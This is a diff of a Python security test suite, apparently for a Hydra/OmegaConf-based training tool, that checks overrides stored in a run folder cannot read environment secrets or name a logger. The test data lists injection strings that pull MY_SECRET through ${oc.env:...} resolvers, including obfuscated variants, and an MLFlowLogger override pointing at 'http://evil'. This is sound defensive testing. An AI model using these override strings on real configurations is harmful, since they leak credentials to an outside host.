@@ -199,13 +199,16 @@ def test_trust_comes_only_from_the_command_line(trust: str, attacked: Path) -> N
     assert [each.key_or_group for each in overrides_of_run(Run(attacked)) if "trust" in str(each.input_line)] == []
 
 
+UNREADABLE = [  # lines that are refused even before
+    "+vars.y=env\n+vars.x=${oc.${vars.y}:MY_SECRET}",
+    "+vars.x=${oc.decode:'$\\{oc.env:MY_SECRET\\}'}",
+]
 ONLY_ON_THE_COMMAND_LINE = [
+    *UNREADABLE,
     "+vars.x=${oc.env:MY_SECRET}",
     "+vars.x='${oc.env:MY_SECRET}'",
     "name=a-${oc.env:MY_SECRET}-b",
-    "+vars.y=env\n+vars.x=${oc.${vars.y}:MY_SECRET}",
     "+vars.x={y:[${oc.env:MY_SECRET}]}",
-    "+vars.x=${oc.decode:'$\\{oc.env:MY_SECRET\\}'}",
     "+vars.x=\\${oc.env:MY_SECRET}",
     "+logger.x={_target_:lightning.pytorch.loggers.MLFlowLogger,tracking_uri:'http://evil'}",
     "+logger.x._target_=lightning.pytorch.loggers.MLFlowLogger",
@@ -222,7 +225,7 @@ def test_a_run_folder_reads_no_environment_and_names_no_logger(
     assert resume_with(attacked, lines) == 2
     error = capsys.readouterr().err
     code = "security.logger_class" if "Logger" in lines else "security.resolver"
-    assert_refused(error, code, "overrides.txt: ")
+    assert_refused(error, "run.overrides_damaged" if lines in UNREADABLE else code, "overrides.txt: ")
     assert "s3cret" not in error
 
 
